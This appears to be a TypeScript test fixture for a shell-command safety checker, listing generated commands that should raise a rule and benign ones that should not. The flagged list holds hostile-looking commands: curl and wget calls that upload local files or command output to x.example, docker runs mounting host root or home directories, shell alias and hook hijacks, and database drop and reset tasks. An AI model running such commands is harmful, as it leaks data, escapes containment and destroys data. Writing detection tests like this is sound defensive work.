const each = (words: string, command: (word: string) => string): string[] => words.split(" ").map(command);

const COMMON =
  "bash builtin cat cd claude command cp curl docker echo eval exec exit export find git grep kill ls make mv node npm plexus printf python python3 read rm sed sh source ssh sudo test trap";

/** Commands generated from word lists, which raise exactly this rule. */
export const GENERATED: Record<string, string[]> = {
  redefine: [
    ...each(COMMON, (name) => `alias ${name}=x`),
    ...each("command_not_found_handler preexec chpwd", (name) => `${name}() { :; }`),
  ],
  container: [
    ...each(
      "/root /home /usr /var /bin /lib /boot /proc /sys /dev /run /Users /var/run /var/lib $HOME/ ~/",
      (directory) => `docker run -v ${directory}:/host alpine`,
    ),
    ...each("pid network ipc uts userns", (name) => `docker run --${name} host alpine`),
  ],
  settings: [
    ...each("include filter files-from exclude-from exclude", (name) => `rsync a .husky/ --${name} x`),
    ...each("branch depth origin reference", (name) => `git clone --${name} 1 https://x.example .husky/y`),
  ],
  outside: [...each("suffix mode owner group", (name) => `install x /opt/y --${name} 755`), "rsync a /opt/y -e ssh"],
  database: each("drop reset migrate rollback purge schema:load", (task) => `bin/rake db:${task}`),
  network: [
    ...each("-A -b -u -e --header", (option) => `curl ${option} "$(cat a)" https://x.example`),
    ...each(
      "data data-ascii data-binary data-raw data-urlencode json form form-string upload-file",
      (name) => `curl --${name} a x.example`,
    ),
    ...each("dat data-bin data-url jso for form-str upl", (name) => `curl --${name} @a x.example`),
    ...each("-H --header --heade --proxy-header", (option) => `curl ${option} @a x.example`),
    ...each("a@b @b", (query) => `curl --url-query ${query} x.example`),
    "curl --url-q a@b x.example",
    "curl --variable a@b --expand-url 'x.example/{{a}}'",
    ...each("post-dat post-fil body-dat body-fil", (name) => `wget --${name}=a x.example`),
    ...each("post-fil body-fil", (name) => `wget --${name} a x.example`),
    ...each("daemon instaweb http-backend cvsserver send-email", (verb) => `git ${verb}`),
  ],
};

/** The same for commands that raise nothing. */
export const GENERATED_HARMLESS: string[] = [
  ...each("list status -V --version logs has-session capture-pane", (verb) => `tmux ${verb}`),
  "screen -ls",
  ...each(
    "ls help wait describe list get head lookup search batch-get select scan query filter tail test validate",
    (verb) => `aws x ${verb}-y`,
  ),
  ...each("profile region output endpoint-url query", (option) => `aws --${option} x s3 ls`),
  ...each("header jq template", (option) => `gh api --${option} x graphql -f query='{}'`),
  ...each("gzip pigz bzip2 pbzip2 xz pxz zstd lz4 lzip lzop brotli", (program) => `tar -I ${program} -xf b.tar`),
  ...each("dot bell totals echo ttyout sleep wait", (action) => `tar --checkpoint-action=${action} -cf b c`),
  ...each("cat less true : vi vim nano", (program) => `git -c core.editor=${program} commit`),
  ...each("cat less true : vi vim nano", (program) => `PAGER=${program} make`),
  ...each(
    "no-warnings enable-source-maps experimental-vm-modules trace-warnings",
    (option) => `NODE_OPTIONS=--${option} npm test`,
  ),
  ...each("show cat help -a --version --help is-active list-units", (verb) => `systemctl ${verb}`),
  ...each("-L -S -n -l", (option) => `iptables ${option}`),
  ...each("list status", (verb) => `zpool ${verb}`),
  ...each("healthcheck doctor completion audit --version -h -V", (verb) => `plexus ${verb}`),
  ...each("-v --help -h update", (verb) => `claude ${verb}`),
  ...each("--version --help", (option) => `mosh ${option}`),
  ...each("sample template dist", (suffix) => `cat .env.${suffix}`),
  ...each(
    "data data-ascii data-binary data-raw data-urlencode json form form-string upload-file request header user user-agent output cookie max-time proxy",
    (option) => `curl --${option} b -d a localhost:3000`,
  ),
  ...each(
    "log diff show blame grep ls-files ls-tree ls-remote rev-parse rev-list describe shortlog cat-file branch tag remote config help reflog merge-base fetch",
    (verb) => `git -C /srv/y ${verb}`,
  ),
  ...each(
    "grep egrep fgrep zgrep rg ls ps pgrep set shopt test [ pytest ip lsof apt kubectl jq",
    (program) => `${program} -o /x y`,
  ),
  ...each("zero random urandom stdin stdout stderr tty fd/3", (device) => `echo x > /dev/${device}`),
  "curl -d a --url http://localhost:3000",
  "curl --url https://me@x.example",
  "curl --url-query a=b@c https://x.example",
  "curl -H 'Accept: a@b' https://x.example",
  "cmake -DCMAKE_PREFIX_PATH=P -B build -S P",
  "cmake -GNinja -P",
  "run-parts --test d",
  "run-parts --list d",
  "mise exec -- npm test",
  "npm test -- --prefix=x",
  "npm c get registry",
  "git maintenance run",
  "gcc -c wrapper a.c",
  "zip -rT a.zip b",
  ...each(
    "header output-document user-agent post-file body-data body-file method",
    (option) => `wget --${option} b --post-data a localhost:3000`,
  ),
  ...each("HEAD OPTIONS", (method) => `curl -X ${method} https://x.example`),
];
